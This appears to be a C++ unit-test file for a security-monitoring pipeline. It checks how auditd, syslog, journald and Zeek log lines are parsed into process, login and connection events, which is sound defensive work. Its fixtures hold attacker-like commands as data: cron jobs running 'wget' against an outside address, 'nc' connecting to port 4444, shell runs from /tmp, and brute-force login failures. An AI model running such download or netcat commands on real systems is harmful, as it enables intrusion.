#include "pipeline/input/input.hpp"

#include <gmock/gmock.h>

#include <nlohmann/json.hpp>

#include "pipeline/input/auditd.hpp"
#include "pipeline/input/syscalls.hpp"
#include "pipeline/input/syslog.hpp"

namespace fieldwatch::pipeline {
namespace {

using Json = nlohmann::json;
using testing::ElementsAre;

struct Read {
    model::RecordKind kind;
    std::string device;
    Timestamp time;
    std::uint64_t line;
    Json body;

    Json payload() const { return body["Events"][0]["Payload"][0]; }
    std::string name() const { return body["Events"][0]["Name"]; }
};

/// Reads lines; the events they became, without the sigma-events unless asked for.
std::vector<Read> read(InputFormat format, const std::vector<std::string>& lines, bool sigma = false,
                       InputOptions options = {.first_year = 2026}) {
    std::vector<Read> out;
    const auto reader = make_input_reader(format, options);
    const RecordSink sink = [&](const model::RecordView& record, std::uint64_t line) {
        if ((record.kind == model::RecordKind::SigmaEvent) != sigma) return;
        out.push_back(
            {record.kind, std::string(record.device), record.received, line, Json::parse(record.body)});
    };
    for (std::size_t i = 0; i < lines.size(); ++i) {
        const auto done = reader->read(lines[i], i + 1, sink);
        EXPECT_TRUE(done) << lines[i] << ": " << done.error().message;
    }
    reader->finish(sink);
    return out;
}

TEST(Diagnostics, TakesABatchApartWhereverItsLinesEnd) {
    const auto records = read(
        InputFormat::Diagnostics,
        {R"({"records":[)",
         R"({"time":"2020-11-10T08:00:00Z","resourceId":"/X/IOTHUBS/PLANT","operationName":"deviceConnect","category":"Connections","properties":"{\"deviceId\":\"pump\"}"})",
         "]}",
         R"({"time":"2020-11-10T08:00:01Z","operationName":"Microsoft.Devices/iotHubs/Write","category":"Administrative"})"});
    ASSERT_EQ(records.size(), 2u);
    EXPECT_EQ(records[0].kind, model::RecordKind::Operation);
    EXPECT_EQ(records[0].device, "pump");
    EXPECT_EQ(records[0].line, 1u);
    EXPECT_EQ(records[0].body["properties"]["deviceId"], "pump");
    EXPECT_EQ(records[1].kind, model::RecordKind::ControlPlane);
    EXPECT_EQ(records[1].time.unix_seconds(), 1604995201);
    EXPECT_EQ(guess_input_format(R"({"records":[]})"), InputFormat::Diagnostics);
    EXPECT_EQ(
        guess_input_format(R"({"time":"x","kind":"operation","body":{"operationName":"y","records":1}})"),
        InputFormat::JsonLines);
}

TEST(Auditd, PutsTheRecordsOfAnExecTogether) {
    const auto events = read(
        InputFormat::Auditd,
        {R"(node=pi type=SYSCALL msg=audit(1604996384.965:937): arch=c000003e syscall=59 success=yes exit=0 ppid=7 pid=8 auid=1000 uid=1000 comm="dd" exe="/bin/dd" key=(null))",
         R"(node=pi type=EXECVE msg=audit(1604996384.965:937): argc=3 a0="dd" a1="if=/dev/zero" a2=6F663D2F746D702F6120622063)",
         R"(node=pi type=CWD msg=audit(1604996384.965:937): cwd="/home/pi")",
         R"(node=pi type=PROCTITLE msg=audit(1604996384.965:937): proctitle=6464)",
         R"(node=pi type=SYSCALL msg=audit(1604996385.000:938): arch=c000003e syscall=59 success=yes ppid=8 pid=9 uid=0 exe="/bin/sh")",
         R"(node=pi type=EXECVE msg=audit(1604996385.000:938): argc=2 a0="sh" a1_len=8 a1[0]=2F746D70 a1[1]=2F78)"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(events[0].device, "pi");
    EXPECT_EQ(events[0].line, 2u);
    EXPECT_EQ(events[0].time.unix_millis(), 1604996384965);
    EXPECT_EQ(events[0].name(), "ProcessCreate");
    EXPECT_EQ(events[0].payload()["CommandLine"], "dd if=/dev/zero of=/tmp/a b c");
    EXPECT_EQ(events[0].payload()["Executable"], "/bin/dd");
    EXPECT_EQ(events[0].payload()["UserId"], "1000");
    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/home/pi");
    EXPECT_EQ(events[1].payload()["CommandLine"], "sh /tmp/x");
    EXPECT_EQ(events[1].payload()["ExtraDetails"]["ParentExecutable"], "/bin/dd");
}

TEST(Auditd, LeavesOutWhatDidNotSucceedButKeepsConnects) {
    const auto events = read(
        InputFormat::Auditd,
        {R"(type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=no exit=-2 pid=8 exe="/bin/sh")",
         R"(type=EXECVE msg=audit(1.000:1): argc=1 a0="x")", R"(type=EOE msg=audit(1.000:1): )",
         R"(type=SYSCALL msg=audit(2.000:2): arch=c00000b7 syscall=203 success=no exit=-115 pid=8 uid=0 exe="/bin/nc")",
         R"(type=SOCKADDR msg=audit(2.000:2): saddr=02000050CB0071090000000000000000)",
         R"(type=SYSCALL msg=audit(3.000:3): arch=x86_64 syscall=connect success=yes pid=8 uid=0 exe="/bin/nc" SYSCALL=connect)",
         R"(type=SOCKADDR msg=audit(3.000:3): saddr=0A001F90000000002001067C000000000000000000000001)",
         R"(type=PROCTITLE msg=audit(3.000:3): proctitle="nc")"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(events[0].payload()["RemoteAddress"], "2001:67c::1");
    EXPECT_EQ(events[0].payload()["RemotePort"], "8080");
    EXPECT_EQ(events[1].payload()["RemoteAddress"], "203.0.113.9");
    EXPECT_EQ(events[1].payload()["Direction"], "Out");
}

TEST(Auditd, TellsLoginsFromOtherAuthentication) {
    const auto events = read(
        InputFormat::Auditd,
        {R"(type=USER_LOGIN msg=audit(1.000:1): pid=5 uid=0 auid=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed')",
         R"(type=USER_AUTH msg=audit(1.000:2): pid=6 uid=0 msg='op=PAM:authentication acct="pi" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success')",
         R"(type=USER_LOGIN msg=audit(1.000:3): pid=7 uid=0 msg='op=login id=0 exe="/bin/login" hostname=? addr=? terminal=tty1 res=success')",
         R"(type=USER_LOGIN msg=audit(1.000:4): pid=8 uid=0 msg='op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed')"});
    ASSERT_EQ(events.size(), 3u);
    EXPECT_EQ(events[0].payload()["RemoteAddress"], "203.0.113.9");
    EXPECT_EQ(events[0].payload()["Result"], "Fail");
    EXPECT_FALSE(events[1].payload().contains("RemoteAddress"));
    EXPECT_EQ(events[1].payload()["Result"], "Success");
    EXPECT_EQ(events[2].payload()["UserName"], "(invalid user)");
}

TEST(Auditd, GivesEachRecordToRulesWithItsOwnFields) {
    const auto events = read(
        InputFormat::Auditd,
        {R"(type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=319 success=yes a0=7ffd exe="/usr/bin/x" comm=6120 key="k" )"
         "\x1d"
         R"(ARCH=x86_64 AUID="root")"},
        true);
    ASSERT_EQ(events.size(), 1u);
    const auto& fields = events[0].body["fields"];
    EXPECT_EQ(events[0].body["logsource"]["service"], "auditd");
    EXPECT_EQ(fields["type"], "SYSCALL");
    EXPECT_EQ(fields["SYSCALL"], "memfd_create");
    EXPECT_EQ(fields["a0"], "7ffd");
    EXPECT_EQ(fields["comm"], "a ");
    EXPECT_EQ(fields["AUID"], "root");
}

TEST(Auditd, TakesTheNameOfACallFromWhereItIsWrittenOut) {
    const auto events = read(
        InputFormat::Auditd,
        {R"(type=SYSCALL msg=audit(05/30/2019 10:30:01.123:456) : arch=x86_64 syscall=process_vm_writev success=yes exe=/usr/bin/x)",
         R"(type=SYSCALL msg=audit(1.000:2): arch=c000003e syscall=59/sbin/x success=yes exe="/usr/bin/x")",
         R"(type=SYSCALL msg=audit(1.000:3): arch=c000003e syscall=9999 success=yes exe="/usr/bin/x")"},
        true);
    ASSERT_EQ(events.size(), 3u);
    EXPECT_EQ(events[0].body["fields"]["SYSCALL"], "process_vm_writev");
    EXPECT_EQ(events[1].body["fields"]["SYSCALL"], "execve");
    EXPECT_FALSE(events[2].body["fields"].contains("SYSCALL"));
}

TEST(Auditd, KnowsSystemCallsByArchitecture) {
    EXPECT_EQ(syscall_name("c000003e", 59), "execve");
    EXPECT_EQ(syscall_name("c00000b7", 221), "execve");
    EXPECT_EQ(syscall_name("40000028", 11), "execve");
    EXPECT_EQ(syscall_name("40000003", 362), "connect");
    EXPECT_EQ(syscall_name("c000003e", 9999), "");
    EXPECT_EQ(syscall_name("nonsense", 59), "");
}

TEST(Auditd, ReadsWhatAusearchShowsToPeople) {
    const auto events = read(
        InputFormat::Auditd,
        {"----",
         R"(type=PROCTITLE msg=audit(05/30/2019 10:30:01.123:456) : proctitle=sh -c id uid=0 | tee /tmp/a b )",
         R"(type=CWD msg=audit(05/30/2019 10:30:01.123:456) : cwd=/tmp/my dir )",
         R"(type=EXECVE msg=audit(05/30/2019 10:30:01.123:456) : argc=3 a0=sh a1=-c a2=id uid=0 a9=x | tee /tmp/a b )",
         R"(type=SYSCALL msg=audit(05/30/2019 10:30:01.123:456) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55 ppid=100 pid=101 auid=pi uid=root comm=sh exe=/bin/dash key=(null) )",
         "----",
         R"(type=SYSCALL msg=audit(30.05.2019 10:30:02.123:457) : arch=aarch64 syscall=connect success=yes pid=102 uid=pi exe=/usr/bin/nc)",
         R"(type=SOCKADDR msg=audit(30.05.2019 10:30:02.123:457) : saddr={ saddr_fam=inet laddr=203.0.113.9 lport=4444 } )",
         R"(type=PROCTITLE msg=audit(30.05.2019 10:30:02.123:457) : proctitle=nc 203.0.113.9 4444)"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(to_iso8601(events[0].time, 3), "2019-05-30T10:30:01.123Z");
    EXPECT_EQ(events[0].payload()["CommandLine"], "sh -c id uid=0 a9=x | tee /tmp/a b");
    EXPECT_EQ(events[0].payload()["Executable"], "/bin/dash");
    EXPECT_EQ(events[0].payload()["UserId"], "0");
    EXPECT_EQ(events[0].payload()["UserName"], "root");
    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/tmp/my dir");
    EXPECT_EQ(events[1].payload()["RemoteAddress"], "203.0.113.9");
    EXPECT_EQ(events[1].payload()["RemotePort"], "4444");
}

TEST(Auditd, ReadsTheKernelsOwnLogAndTheJournals) {
    const auto events = read(
        InputFormat::Syslog,
        {R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1300 audit(1604996384.965:937): arch=c000003e syscall=59 success=yes ppid=7 pid=8 uid=0 exe="/bin/sh")",
         R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1309 audit(1604996384.965:937): argc=2 a0="sh" a1=2F746D702F782079)",
         R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1327 audit(1604996384.965:937): proctitle=7368)",
         R"(Nov 10 08:19:45 gw2 audit[812]: SYSCALL arch=c000003e syscall=59 success=yes ppid=7 pid=812 uid=0 exe="/bin/ls")",
         R"(Nov 10 08:19:45 gw2 audit: EXECVE argc=2 a0="ls" a1="/tmp")",
         R"(Nov 10 08:19:45 gw2 audit: PROCTITLE proctitle="ls")",
         R"({"__REALTIME_TIMESTAMP":"1704164646123456","_HOSTNAME":"gw3","SYSLOG_IDENTIFIER":"audit","_AUDIT_ID":"55","MESSAGE":"EXECVE argc=1 a0=\"/bin/id\""})"});
    ASSERT_EQ(events.size(), 3u);
    EXPECT_EQ(events[0].device, "gw1");
    EXPECT_EQ(events[0].payload()["CommandLine"], "sh /tmp/x y");
    EXPECT_EQ(events[1].device, "gw2");
    EXPECT_EQ(events[1].payload()["CommandLine"], "ls /tmp");
    EXPECT_EQ(events[2].device, "gw3");
    EXPECT_EQ(events[2].payload()["Executable"], "/bin/id");
}

TEST(Auditd, TakesSudosWordUntilItSeesPrograms) {
    const std::string said =
        R"(type=USER_CMD msg=audit(1.000:1): pid=1 uid=1000 msg='cwd="/home/pi" cmd=6964202D75 terminal=pts/0 res=success')";
    const auto alone = read(InputFormat::Auditd, {said});
    ASSERT_EQ(alone.size(), 1u);
    EXPECT_EQ(alone[0].payload()["CommandLine"], "id -u");
    EXPECT_EQ(alone[0].payload()["ExtraDetails"]["ParentExecutable"], "/usr/bin/sudo");
    EXPECT_EQ(read(InputFormat::Auditd,
                   {R"(type=EXECVE msg=audit(0.500:0): argc=1 a0="ls")", said,
                    R"(type=USER_CMD msg=audit(1.000:2): pid=1 uid=1000 msg='cmd="id" res=failed')"})
                  .size(),
              1u);
}

TEST(Syslog, ReadsEveryFormOfLine) {
    const auto old = parse_syslog_line("Mar  7 13:06:56 ip-10-77 sshd[1291]: Server listening", 2017);
    ASSERT_TRUE(old);
    EXPECT_EQ(to_iso8601(old->time, 0), "2017-03-07T13:06:56Z");
    EXPECT_EQ(old->host, "ip-10-77");
    EXPECT_EQ(old->program, "sshd");
    EXPECT_EQ(old->process_id, 1291);
    EXPECT_EQ(old->message, "Server listening");
    const auto fresh = parse_syslog_line(
        R"(<34>1 2026-10-11T22:14:15.003Z gw.example su 77 ID47 [x@1 a="]\" b"][y] 'su root' failed)", 0);
    ASSERT_TRUE(fresh);
    EXPECT_EQ(fresh->host, "gw.example");
    EXPECT_EQ(fresh->program, "su");
    EXPECT_EQ(fresh->process_id, 77);
    EXPECT_EQ(fresh->message, "'su root' failed");
    const auto iso = parse_syslog_line("2026-01-02T03:04:05.123456+01:00 pi sudo: x", 0);
    ASSERT_TRUE(iso);
    EXPECT_EQ(to_iso8601(iso->time, 3), "2026-01-02T02:04:05.123Z");
    const auto busybox =
        parse_syslog_line("Jan  1 00:00:12 authpriv.info dropbear[611]: Child connection", 2026);
    ASSERT_TRUE(busybox);
    EXPECT_EQ(busybox->host, "");
    EXPECT_EQ(busybox->program, "dropbear");
    const auto both = parse_syslog_line("Jan  1 00:00:12 router authpriv.info dropbear[611]: Child", 2026);
    ASSERT_TRUE(both);
    EXPECT_EQ(both->host, "router");
    EXPECT_EQ(both->program, "dropbear");
    const auto module =
        parse_syslog_line("Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; x", 2005);
    ASSERT_TRUE(module);
    EXPECT_EQ(module->program, "sshd");
    EXPECT_FALSE(parse_syslog_line("hello world", 2026));
    EXPECT_FALSE(parse_syslog_line("", 2026));
    EXPECT_FALSE(parse_syslog_line("<999999>x", 2026));
}

TEST(Syslog, GoesOnIntoTheNextYear) {
    const auto events = read(InputFormat::Syslog, {"Dec 31 23:59:59 h a: x", "Jan  1 00:00:01 h a: y"}, true);
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(to_iso8601(events[1].time, 0), "2027-01-01T00:00:01Z");
}

struct Case {
    std::string program, message, user, address;
    bool success;
    int times = 1;
};

TEST(Syslog, UnderstandsTheDaemonsThatLogPeopleIn) {
    const Case cases[] = {
        {"sshd", "Accepted publickey for ubuntu from 85.245.107.41 port 54259 ssh2: RSA SHA256:x", "ubuntu",
         "85.245.107.41", true},
        {"sshd-session", "Accepted password for pi from 2001:db8::1 port 2 ssh2", "pi", "2001:db8::1", true},
        {"sshd", "Failed password for invalid user a from b from 203.0.113.9 port 22 ssh2", "a from b",
         "203.0.113.9", false},
        {"sshd", "message repeated 4 times: [ Failed password for root from 203.0.113.9 port 22 ssh2]",
         "root", "203.0.113.9", false, 4},
        {"sshd",
         "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
         "rhost=203.0.113.9  user=root",
         "root", "203.0.113.9", false},
        {"dropbear", "Bad password attempt for 'root' from 203.0.113.9:50210", "root", "203.0.113.9", false},
        {"dropbear", "Login attempt for nonexistent user from 203.0.113.9:50210", "", "203.0.113.9", false},
        {"dropbear", "Password auth succeeded for 'root' from 203.0.113.9:5", "root", "203.0.113.9", true},
        {"login", "invalid password for 'admin' on 'pts/0' from '203.0.113.9'", "admin", "203.0.113.9",
         false},
        {"login", "root login on 'pts/0' from '203.0.113.9'", "root", "203.0.113.9", true},
        {"login", "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", "root", "", false},
        {"login", "LOGIN ON tty1 BY pi", "pi", "", true},
        {"vsftpd", "[ftp] FAIL LOGIN: Client \"::ffff:203.0.113.9\"", "ftp", "203.0.113.9", false},
    };
    for (const auto& [program, message, user, address, success, times] : cases) {
        const auto told = told_login(program, message);
        ASSERT_TRUE(told) << message;
        EXPECT_EQ(told->login.user, user) << message;
        EXPECT_EQ(told->login.address, address) << message;
        EXPECT_EQ(told->login.success, success) << message;
        EXPECT_EQ(told->times, times) << message;
    }
    for (const auto* message :
         {"Failed publickey for root from 203.0.113.9 port 1 ssh2",
          "Failed none for root from 203.0.113.9 port 1 ssh2", "Invalid user a from 203.0.113.9",
          "Connection closed by 203.0.113.9 port 1 [preauth]",
          "pam_unix(sshd:session): session opened for user pi by (uid=0)"})
        EXPECT_FALSE(told_login("sshd", message)) << message;
    EXPECT_FALSE(told_login("sudo",
                            "pam_unix(sudo:auth): authentication failure; logname=pi uid=1000 euid=0 "
                            "tty=/dev/pts/0 ruser=pi rhost=  user=pi"));
}

TEST(Syslog, CountsAnAttemptOnceThatPamAndTheDaemonTellOf) {
    const auto events =
        read(InputFormat::Syslog,
             {"Mar 27 13:00:00 h sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
              "tty=ssh ruser= rhost=203.0.113.9  user=root",
              "Mar 27 13:00:02 h sshd[5]: Failed password for root from 203.0.113.9 port 22 ssh2",
              "Mar 27 13:00:04 h sshd[5]: Failed password for root from 203.0.113.9 port 22 ssh2"});
    EXPECT_EQ(events.size(), 2u);
}

TEST(Syslog, SeesWhatSudoAndCronRun) {
    const auto events =
        read(InputFormat::Syslog,
             {"Mar 27 13:00:00 h sudo:       pi : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh x.sh -a",
              "Mar 27 13:00:00 h CRON[77]: (root) CMD (   /usr/bin/wget -q http://203.0.113.9/a)",
              "Mar 27 13:00:00 h sudo:       pi : command not allowed ; TTY=pts/0 ; COMMAND=/bin/sh"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(events[0].payload()["CommandLine"], "/bin/sh x.sh -a");
    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/tmp");
    EXPECT_EQ(events[1].payload()["UserName"], "root");
}

TEST(Syslog, KeepsAPeerKnownByNameApartAndValid) {
    const auto events =
        read(InputFormat::Syslog,
             {"Jun 14 15:16:01 combo sshd(pam_unix)[1]: authentication failure; logname= uid=0 euid=0 "
              "tty=NODEVssh ruser= rhost=a.example  user=root"});
    ASSERT_EQ(events.size(), 1u);
    EXPECT_EQ(events[0].payload()["ExtraDetails"]["RemoteHost"], "a.example");
    EXPECT_TRUE(std::string(events[0].payload()["RemoteAddress"]).starts_with("fd66:"));
}

TEST(Zeek, ReadsTablesAndJson) {
    const std::string tab = "\t";
    const auto events =
        read(InputFormat::Zeek,
             {"#separator \\x09", "#unset_field\t-", "#path\tconn",
              "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto",
              "#types\ttime\tstring\taddr\tport\taddr\tport\tenum",
              "1300475167.096535\tCx\t192.168.1.5\t49152\t203.0.113.9\t23\ttcp",
              "1300475168.5\tCy\t203.0.113.9\t1\t192.168.1.5\t22\ttcp", "#close\t2026-01-01-00-00-00"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(events[0].device, "192.168.1.5");
    EXPECT_EQ(events[0].time.unix_millis(), 1300475167096);
    EXPECT_EQ(events[0].payload()["RemotePort"], "23");
    EXPECT_EQ(events[0].payload()["Direction"], "Out");
    EXPECT_EQ(events[1].payload()["Direction"], "In");
    EXPECT_EQ(events[1].device, "192.168.1.5");
    const auto names = read(
        InputFormat::Zeek,
        {R"({"_path":"dns","ts":1300475167.096535,"id.orig_h":"10.0.0.2","id.orig_p":5353,"id.resp_h":"9.9.9.9","id.resp_p":53,"proto":"udp","query":"evil.example"})",
         R"({"ts":"2026-01-02T03:04:05.5Z","id.orig_h":"10.0.0.2","id.orig_p":1,"id.resp_h":"9.9.9.9","id.resp_p":53,"proto":"udp"})",
         R"({"_path":"files","ts":1.5,"fuid":"x"})"});
    ASSERT_EQ(names.size(), 2u);
    EXPECT_EQ(names[0].payload()["ExtraDetails"]["DnsName"], "evil.example");
    EXPECT_EQ(names[1].time.unix_millis(), 1767323045500);
}

TEST(Zeek, TellsWhatTheSensorRecognisedAndCounted) {
    const auto details = [](const std::vector<std::string>& lines) {
        const auto events = read(InputFormat::Zeek, lines);
        return events.empty() ? Json() : events.back().payload()["ExtraDetails"];
    };
    const std::string fields =
        "#fields\tts\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\torig_pkts\tresp_pkts";
    EXPECT_EQ(details({fields, "1.5\t10.0.0.2\t1\t203.0.113.9\t443\ttcp\t-\t3\t0"})["Service"], "-");
    EXPECT_EQ(details({fields, "1.5\t10.0.0.2\t1\t203.0.113.9\t443\ttcp\tssl\t3\t0"})["Service"], "ssl");
    EXPECT_EQ(details({fields, "1.5\t10.0.0.2\t1\t203.0.113.9\t443\ttcp\tssl\t3\t0"})["ConnState"], "S0");
    EXPECT_EQ(details({fields, "1.5\t10.0.0.2\t1\t203.0.113.9\t443\ttcp\tssl\t3\t4"})["ConnState"], "SF");
    EXPECT_EQ(
        details({fields, "1.5\t10.0.0.2\t1\t203.0.113.9\t443\ttcp\tssl\t3\t4\tMalicious\tC&C"})["PacketsOut"],
        "3")
        << "labels that somebody appended";
}

TEST(Zeek, ReadsTheFormsThatShippersMakeOfIt) {
    const auto one = [](const std::string& line) {
        auto events = read(InputFormat::Zeek, {line});
        EXPECT_EQ(events.size(), 1u) << line;
        return events.at(0);
    };
    const auto nested = one(
        R"({"ts":1767323045500,"id":{"orig_h":"10.0.0.2","orig_p":1,"resp_h":"203.0.113.9","resp_p":23},"proto":"tcp","conn_state":"S0"})");
    EXPECT_EQ(nested.device, "10.0.0.2");
    EXPECT_EQ(nested.time.unix_millis(), 1767323045500);
    const auto elastic = one(
        R"({"@timestamp":"2026-01-02T03:04:05.500Z","source":{"ip":"fd00::2","port":1,"packets":3,"bytes":90},"destination":{"ip":"2001:4860::9","port":23},"network":{"transport":"tcp"},"event":{"duration":2500000000},"zeek":{"connection":{"state":"S0"}}})");
    EXPECT_EQ(elastic.device, "fd00::2");
    EXPECT_EQ(elastic.payload()["RemotePort"], "23");
    EXPECT_EQ(elastic.payload()["ExtraDetails"]["ConnState"], "S0");
    EXPECT_EQ(elastic.payload()["ExtraDetails"]["Duration"], "2.500000");
    const auto campus = one(
        R"({"ts":1.5,"id_orig_h":"203.0.113.9","id_orig_p":9,"id_resp_h":"198.51.100.4","id_resp_p":22,"local_orig":false,"local_resp":true})");
    EXPECT_EQ(campus.device, "198.51.100.4") << "the sensor knows its networks";
    EXPECT_EQ(campus.payload()["Direction"], "In");
}

TEST(Input, SaysWhatALineCannotBe) {
    const RecordSink sink = [](const model::RecordView&, std::uint64_t) {};
    const auto refusal = [&](InputFormat format, std::string_view line) {
        const auto done = make_input_reader(format, {})->read(line, 1, sink);
        return done ? std::string("accepted") : done.error().message;
    };
    EXPECT_THAT(refusal(InputFormat::Auditd, "hello"),
                testing::HasSubstr("msg=audit(seconds.millis:serial)"));
    EXPECT_THAT(refusal(InputFormat::Syslog, "hello"), testing::HasSubstr("ISO 8601"));
    EXPECT_THAT(refusal(InputFormat::Zeek, "a\tb"), testing::HasSubstr("#fields"));
    EXPECT_THAT(refusal(InputFormat::JsonLines, "[]"), testing::HasSubstr("object"));
}

TEST(Input, TurnsBytesThatAreNoTextIntoReplacements) {
    const auto events =
        read(InputFormat::Syslog,
             {"Mar 27 13:06:56 h sshd[1]: Failed password for r\xFFt from 203.0.113.9 port 1 ssh2"});
    ASSERT_EQ(events.size(), 1u);
    EXPECT_EQ(events[0].payload()["UserName"], "r\xEF\xBF\xBDt");
}

TEST(Syslog, ReadsWhatJournalctlAndLogreadPrint) {
    const auto time_of = [](std::string_view line) {
        const auto read = parse_syslog_line(line, 2026);
        return read ? to_iso8601(read->time, 3) + " " + read->host + " " + read->program : "no line";
    };
    EXPECT_EQ(time_of("Tue Jan  2 03:04:05 2024 authpriv.info dropbear[1]: x"),
              "2024-01-02T03:04:05.000Z  dropbear");
    EXPECT_EQ(time_of("Tue 2024-01-02 03:04:05 CET pi sshd[1]: x"), "2024-01-02T03:04:05.000Z pi sshd");
    EXPECT_EQ(time_of("2024-01-02T03:04:05+0100 pi sshd[1]: x"), "2024-01-02T02:04:05.000Z pi sshd");
    EXPECT_EQ(time_of("1704164645.123456 pi sshd[1]: x"), "2024-01-02T03:04:05.123Z pi sshd");
    EXPECT_EQ(time_of("Jan 02 03:04:05.123456 pi sshd[1]: x"), "2026-01-02T03:04:05.123Z pi sshd");
    EXPECT_EQ(time_of("Tue the 2nd"), "no line");
    EXPECT_EQ(time_of("1704164645.1 pi sshd[1]: x"), "no line");
}

TEST(Syslog, CountsWhatWasRepeatedAndKnowsMoreDaemons) {
    const auto events = read(
        InputFormat::Syslog,
        {"Jan  2 03:04:05 pi sshd[1]: error: PAM: Authentication failure for illegal user eve from "
         "203.0.113.9",
         "Jan  2 03:04:06 pi last message repeated 2 times", "Jan  2 03:04:07 pi kernel: nothing",
         "Jan  2 03:04:08 pi last message repeated 2 times",
         "Jan  2 03:04:09 pi pure-ftpd: (?@203.0.113.9) [WARNING] Authentication failed for user [admin]",
         "Jan  2 03:04:09 pi proftpd[12]: pi (203.0.113.9[203.0.113.9]) - USER root (Login failed): "
         "Incorrect password",
         "Jan  2 03:04:10 pi uhttpd[1]: [info] luci: accepted login on / for root from 203.0.113.9",
         R"({"__REALTIME_TIMESTAMP":"1767323051000000","_HOSTNAME":"pi","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":"Failed password for root from 203.0.113.9 port 4 ssh2"})"});
    ASSERT_EQ(events.size(), 7u);
    EXPECT_EQ(events[0].payload()["UserName"], "eve");
    EXPECT_EQ(events[2].line, 2u);
    EXPECT_EQ(events[3].payload()["UserName"], "admin");
    EXPECT_EQ(events[4].payload()["UserName"], "root");
    EXPECT_EQ(events[5].payload()["Result"], "Success");
    EXPECT_EQ(events[6].payload()["RemotePort"], "4");
}

TEST(Syslog, RunsNothingThatSudoRefused) {
    const auto events =
        read(InputFormat::Syslog,
             {"Jan  2 03:04:07 pi sudo[3]:  pi : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; "
              "USER=root ; COMMAND=/bin/sh",
              "Jan  2 03:04:07 pi sudo[3]:  pi : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; "
              "COMMAND=/bin/sh",
              "Jan  2 03:04:08 pi sudo[3]:  root : PWD=/ ; USER=root ; COMMAND=/bin/ls",
              "Jan  2 03:04:09 pi crond[9]: USER root pid 10 cmd wget -q http://203.0.113.9/x"});
    ASSERT_EQ(events.size(), 2u);
    EXPECT_EQ(events[0].payload()["CommandLine"], "/bin/ls");
    EXPECT_EQ(events[1].payload()["CommandLine"], "wget -q http://203.0.113.9/x");
}

}  // namespace
}  // namespace fieldwatch::pipeline
